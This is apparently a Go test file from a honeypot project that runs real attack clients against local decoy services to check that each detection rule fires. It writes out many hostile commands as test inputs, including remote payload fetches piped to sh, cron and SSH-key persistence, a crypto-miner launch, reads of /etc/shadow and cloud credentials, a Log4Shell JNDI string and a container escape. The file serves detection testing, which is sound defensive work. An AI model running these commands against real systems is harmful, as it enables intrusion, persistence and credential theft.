package attack_test

// Producer contracts: for every rule of rules.yaml, a real client against
// a real decky service produces an event that fires it. The events pass
// through JSON first, as they reach the master's tagger. A rule without a
// contract here fails TestEveryRuleHasAContract, so no rule can wait on
// fields that no service emits; a service that stops emitting a field a
// rule needs fails its contract.

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/internal/event"
	"github.com/decnet/decnet/internal/intel/attack"
	_ "github.com/decnet/decnet/internal/service/dockerapi"
	_ "github.com/decnet/decnet/internal/service/http"
	_ "github.com/decnet/decnet/internal/service/llmnr"
	_ "github.com/decnet/decnet/internal/service/rdp"
	_ "github.com/decnet/decnet/internal/service/redis"
	"github.com/decnet/decnet/internal/service/servicetest"
	_ "github.com/decnet/decnet/internal/service/servicetest"
	_ "github.com/decnet/decnet/internal/service/smb"
	_ "github.com/decnet/decnet/internal/service/ssh"
	"github.com/decnet/decnet/internal/testenv"
)

// contract drives a real client against a real service and returns the
// running service, whose recorded events must fire the rule; nil when the
// contract re-ran this test elsewhere (a network namespace), where the
// check was made.
type contract func(t *testing.T) *servicetest.Running

// contracts maps every rule id to its producer.
var contracts = map[string]contract{
	"password-guessing": func(t *testing.T) *servicetest.Running {
		r := sshDecky(t)
		sshRun(t, r, "root", "wrongpass", "true")
		return r
	},
	"password-spraying": func(t *testing.T) *servicetest.Running {
		r := sshDecky(t)
		for _, u := range []string{"alice", "bob", "carol"} {
			sshRun(t, r, u, "Winter2024!", "true")
		}
		return r
	},
	"valid-account":             sshCommand("true"),
	"remote-ssh":                sshCommand("true"),
	"unix-shell":                sshCommand("id"),
	"ingress-tool-fetch":        sshCommand("wget -q http://198.51.100.20/x86 -O /tmp/.x; chmod +x /tmp/.x"),
	"ssh-authorized-keys-shell": sshCommand("mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x' >> ~/.ssh/authorized_keys"),
	"cron-shell":                sshCommand(`(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x") | crontab -`),
	"resource-hijacking":        sshCommand("./xmrig -o stratum+tcp://pool.example.net:3333 -u 4AdUndXHHZ --donate-level 1 -B"),
	"scanner-in-shell":          sshCommand("nmap -sS -p 22,445 10.0.0.0/24"),
	"shadow-read":               sshCommand("cat /etc/shadow"),
	"system-information":        sshCommand("uname -a"),
	"clear-history":             sshCommand("history -c; unset HISTFILE"),
	"ingress-tool-upload": func(t *testing.T) *servicetest.Running {
		testenv.RequireTool(t, "scp")
		r := sshDecky(t)
		f := filepath.Join(t.TempDir(), "bot.sh")
		if err := os.WriteFile(f, []byte("#!/bin/sh\necho payload\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		args := append(append([]string{"-p", "toor", "scp", "-O"}, sshOpts...), "-P", r.Port(22), f, "root@"+r.Addr.String()+":/tmp/")
		run(t, "sshpass", args...)
		return r
	},
	"ssh-authorized-keys-redis": redisSave("/root/.ssh", "authorized_keys"),
	"cron-redis":                redisSave("/var/spool/cron/crontabs", "root"),
	"exploit-attempt": func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "redis", 6379, servicetest.Options{Distro: "debian"})
		redisCLI(t, r, "MODULE", "LOAD", "/tmp/exp.so")
		return r
	},
	"nmap-scripting-engine": func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "http", 80, servicetest.Options{})
		run(t, "nmap", "-Pn", "-sT", "-n", "-p", r.Port(80), "--script", "http-title", r.Addr.String())
		return r
	},
	"password-guessing-ntlm": func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "smb", 445, smbWindows("administrator:Passw0rd!"))
		smbclient(t, r, "//"+r.Addr.String()+"/C$", "-U", "administrator%Summer2025", "-c", "ls")
		return r
	},
	"remote-smb-admin-share": func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "smb", 445, smbWindows("administrator:Passw0rd!"))
		smbclient(t, r, "//"+r.Addr.String()+"/ADMIN$", "-U", "administrator%Passw0rd!", "-c", "ls")
		return r
	},
	"share-data-read": func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "smb", 445, smbWindows("alice:Passw0rd!"))
		smbclient(t, r, "//"+r.Addr.String()+"/Public", "-U", "alice%Passw0rd!", "-c", "cd Documents; get Contacts.xlsx /dev/null")
		return r
	},
	"remote-rdp": func(t *testing.T) *servicetest.Running {
		bin := testenv.RequireTool(t, "xfreerdp")
		xvfb := testenv.RequireTool(t, "xvfb-run") // xfreerdp opens a display even to authenticate only
		r := servicetest.Start(t, "rdp", 3389, servicetest.Options{OS: "windows_server", Distro: "win2019"})
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, xvfb, "-a", bin, "/auth-only", "/u:alice", "/d:CORP", "/p:Winter2024!",
			"/v:"+r.HostPort(3389), "/cert:ignore")
		cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
		out, _ := cmd.CombinedOutput()
		t.Logf("xfreerdp:\n%s", out)
		return r
	},
	"llmnr-poisoning": llmnrPoisoner,
	"http-exploit-payload": func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "http", 80, servicetest.Options{})
		run(t, "curl", "-s", "-o", "/dev/null", "-A", "${jndi:ldap://198.51.100.20:1389/Basic/Command/Base64/aWQ=}",
			"http://"+r.HostPort(80)+"/?q=1")
		return r
	},
	"container-deploy":        dockerRun("alpine", "true"),
	"container-escape":        dockerRun("--privileged", "-v", "/:/host", "alpine", "chroot", "/host"),
	"account-discovery":       sshCommand("cat /etc/passwd"),
	"create-account":          sshCommand("useradd -m -s /bin/bash -G sudo backup"),
	"disable-firewall":        sshCommand("iptables -F; ufw disable"),
	"credentials-in-files":    sshCommand("cat ~/.aws/credentials /var/www/html/wp-config.php"),
	"remote-system-discovery": sshCommand("arp -a; cat /etc/hosts"),
	"system-owner-discovery":  sshCommand("whoami"),
}

func TestEveryRuleHasAContract(t *testing.T) {
	f := load(t).File()
	var ids []string
	for _, r := range f.Rules {
		ids = append(ids, r.ID)
		if contracts[r.ID] == nil {
			t.Errorf("rule %s (%s) has no producer contract: add one to contracts in contract_test.go, "+
				"driving a real client against the decky service whose event fires it", r.ID, r.Technique)
		}
	}
	for id := range contracts {
		if !slices.Contains(ids, id) {
			t.Errorf("contract %s names no rule of rules.yaml", id)
		}
	}
}

func TestProducerContracts(t *testing.T) {
	f := load(t).File()
	for _, rule := range f.Rules {
		c := contracts[rule.ID]
		if c == nil {
			continue // TestEveryRuleHasAContract reports it
		}
		t.Run(rule.ID, func(t *testing.T) {
			t.Parallel()
			r := c(t)
			if r == nil {
				return // checked where the contract ran (another process)
			}
			// A fresh engine per contract, so distinct rules count only
			// this contract's events.
			eng, err := attack.New(f)
			if err != nil {
				t.Fatal(err)
			}
			seen := map[string]bool{}
			fired := func(e event.Event) bool {
				if seen[e.ID] {
					return false
				}
				seen[e.ID] = true
				x := roundTrip(t, e)
				return slices.ContainsFunc(eng.Tag(&x), func(h attack.Hit) bool { return h.Rule == rule.ID })
			}
			e, ok := r.Events.Wait(20*time.Second, fired)
			if !ok {
				var types []string
				for _, e := range r.Events.Events() {
					types = append(types, e.Type)
				}
				t.Fatalf("no event fired rule %s (%s); the service emitted %v", rule.ID, rule.Technique, types)
			}
			t.Logf("%s fired by %s %v", rule.ID, e.Type, e.Fields)
		})
	}
}

// ---- clients

var sshOpts = []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
	"-o", "ConnectTimeout=10", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1"}

func sshDecky(t *testing.T) *servicetest.Running {
	t.Helper()
	testenv.RequireTool(t, "ssh")
	testenv.RequireTool(t, "sshpass")
	return servicetest.Start(t, "ssh", 22, servicetest.Options{Distro: "debian", Config: map[string]any{"users": []any{"root:toor"}}})
}

// sshRun runs one command over OpenSSH's client (through sshpass).
func sshRun(t *testing.T, r *servicetest.Running, user, pass, command string) string {
	t.Helper()
	args := append([]string{"-p", pass, "ssh"}, sshOpts...)
	args = append(args, "-p", r.Port(22), user+"@"+r.Addr.String(), command)
	return run(t, "sshpass", args...)
}

// sshCommand is the contract of a command run after a successful login.
func sshCommand(command string) contract {
	return func(t *testing.T) *servicetest.Running {
		r := sshDecky(t)
		sshRun(t, r, "root", "toor", command)
		return r
	}
}

// run runs a client and returns its combined output; a failing exit is
// logged, not fatal (clients fail against refusals by design).
func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	bin := testenv.RequireTool(t, name)
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, bin, args...).CombinedOutput()
	t.Logf("$ %s %s (%v)\n%s", name, strings.Join(args, " "), err, out)
	return string(out)
}

func redisCLI(t *testing.T, r *servicetest.Running, args ...string) string {
	t.Helper()
	return run(t, "redis-cli", append([]string{"-h", r.Addr.String(), "-p", r.Port(6379)}, args...)...)
}

// redisSave is the classic unauthenticated Redis write: a key holding the
// payload, the dump's directory and name pointed at the target, SAVE.
func redisSave(dir, file string) contract {
	return func(t *testing.T) *servicetest.Running {
		r := servicetest.Start(t, "redis", 6379, servicetest.Options{Distro: "debian"})
		redisCLI(t, r, "SET", "x", "\n\n* * * * * curl -s http://198.51.100.20/x | sh\n\n")
		redisCLI(t, r, "CONFIG", "SET", "dir", dir)
		redisCLI(t, r, "CONFIG", "SET", "dbfilename", file)
		redisCLI(t, r, "SAVE")
		return r
	}
}

// dockerRun is docker run against the Docker API decky (the Docker CLI,
// with a configuration of its own).
func dockerRun(args ...string) contract {
	return func(t *testing.T) *servicetest.Running {
		bin := testenv.RequireTool(t, "docker")
		r := servicetest.Start(t, "docker_api", 2375, servicetest.Options{})
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, append([]string{"-H", "tcp://" + r.HostPort(2375), "run"}, args...)...)
		cmd.Env = append(os.Environ(), "DOCKER_CONFIG="+t.TempDir(), "DOCKER_HOST=", "DOCKER_CONTEXT=")
		out, err := cmd.CombinedOutput()
		t.Logf("docker run %s (%v):\n%s", strings.Join(args, " "), err, out)
		return r
	}
}

func smbWindows(users ...string) servicetest.Options {
	list := make([]any, len(users))
	for i, u := range users {
		list[i] = u
	}
	return servicetest.Options{OS: "windows_server", Distro: "win2019", Config: map[string]any{"users": list}}
}

func smbclient(t *testing.T, r *servicetest.Running, args ...string) string {
	t.Helper()
	return run(t, "smbclient", append([]string{"-p", r.Port(445), "--option=client min protocol=SMB2_02"}, args...)...)
}
